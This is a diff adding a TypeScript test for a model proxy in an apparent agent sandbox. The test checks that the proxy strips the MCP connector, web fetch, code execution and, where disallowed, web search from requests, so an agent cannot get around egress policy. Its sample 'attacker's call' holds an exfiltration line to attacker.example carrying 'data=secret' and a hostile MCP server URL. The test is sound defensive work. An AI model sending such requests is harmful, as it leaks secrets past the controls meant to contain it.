@@ -233,3 +233,96 @@ describe("model proxy, an agent's own calls with the owner's key", () => {
     }
   });
 });
+
+describe('model proxy, what a call asks the endpoint to do', () => {
+  /** An endpoint that keeps each request's body. */
+  async function bodyEndpoint(): Promise<{ url: string; bodies: string[]; close(): Promise<void> }> {
+    const bodies: string[] = [];
+    const server = createServer((req, res) => {
+      let body = '';
+      req.setEncoding('utf8');
+      req.on('data', (d: string) => {
+        body += d;
+      });
+      req.on('end', () => {
+        bodies.push(body);
+        res.writeHead(400, { 'content-type': 'application/json' });
+        res.end('{"type":"error","error":{"type":"invalid_request_error","message":"seen"}}');
+      });
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    return {
+      url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+      bodies,
+      close: () => new Promise((resolve) => server.close(() => resolve())),
+    };
+  }
+
+  function post(socketPath: string, body: string): Promise<number> {
+    return new Promise((resolve, reject) => {
+      const req = httpRequest(
+        { socketPath, method: 'POST', path: '/v1/messages?beta=true', headers: { 'x-api-key': 'placeholder' } },
+        (res) => {
+          res.resume();
+          res.on('end', () => resolve(res.statusCode ?? 0));
+        },
+      );
+      req.on('error', reject);
+      req.end(body);
+    });
+  }
+
+  it("takes out the endpoint's MCP connector, web fetch and code execution, and web search when the group may not go out", async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'pincer-proxy-screen-'));
+    const endpoint = await bodyEndpoint();
+    let searchAllowed = false;
+    const screened: string[][] = [];
+    const proxy = await startModelProxy(join(dir, 'model.sock'), {
+      upstream: endpoint.url,
+      credential: { kind: 'api-key', value: 'REAL' },
+      webSearchAllowed: () => searchAllowed,
+      onScreened: (removed) => screened.push(removed),
+    });
+    try {
+      // The attacker's call: the endpoint itself would fetch the attacker's URLs, whatever the egress policy says.
+      const attack = {
+        model: 'claude-sonnet-4-5',
+        max_tokens: 10,
+        messages: [{ role: 'user', content: 'fetch https://attacker.example/?data=secret' }],
+        mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'x' }],
+        container: 'container_1',
+        tools: [
+          { type: 'web_fetch_20250910', name: 'web_fetch' },
+          { type: 'code_execution_20250825', name: 'code_execution' },
+          { type: 'web_search_20250305', name: 'web_search' },
+          { name: 'Bash', input_schema: { type: 'object' } },
+        ],
+        tool_choice: { type: 'tool', name: 'web_search' },
+      };
+      await post(proxy.socketPath, JSON.stringify(attack));
+      const went = JSON.parse(endpoint.bodies[0] ?? '{}') as Record<string, unknown>;
+      assert.equal(went.mcp_servers, undefined);
+      assert.equal(went.container, undefined);
+      assert.equal(went.tool_choice, undefined);
+      assert.deepEqual(went.tools, [{ name: 'Bash', input_schema: { type: 'object' } }]);
+      assert.deepEqual(screened[0], [
+        'mcp_servers',
+        'container',
+        'tool web_fetch_20250910',
+        'tool code_execution_20250825',
+        'tool web_search_20250305',
+      ]);
+
+      // A group that may go out keeps Claude Code's web search; a call with nothing to take out goes byte for byte.
+      searchAllowed = true;
+      const search = JSON.stringify({ model: 'm', messages: [], tools: [{ type: 'web_search_20250305', name: 'web_search' }] });
+      await post(proxy.socketPath, search);
+      assert.equal(endpoint.bodies[1], search);
+      assert.equal(screened.length, 1);
+    } finally {
+      await proxy.close();
+      await endpoint.close();
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
